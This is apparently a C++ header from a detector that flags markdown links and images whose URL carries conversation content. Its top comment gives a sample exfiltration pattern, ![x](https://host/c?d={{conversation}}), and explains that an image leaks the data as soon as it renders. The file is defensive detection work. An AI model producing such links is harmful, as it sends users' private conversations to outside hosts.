// Carriers: links and pictures whose address is to be filled with what the conversation has:
// ![x](https://host/c?d={{conversation}}). A picture is loaded as soon as it is shown, and what
// stands in its address has left by then.
//
// Addresses with places to fill in are everyday things in manuals and templates. So it counts only
// what is to be put there (carrier_words.hpp). Bounded; pure; any thread. Internal to src/detect.
#pragma once

#include "detect/confirm.hpp"

namespace touchstone::detect {

// How links and pictures begin, between bars, in any case; each ends with the address's first
// letters.
[[nodiscard]] std::string_view carrier_literals();

// `literal` is one of these.
void confirm_carrier(const Place& literal, Finds& finds);

}  // namespace touchstone::detect
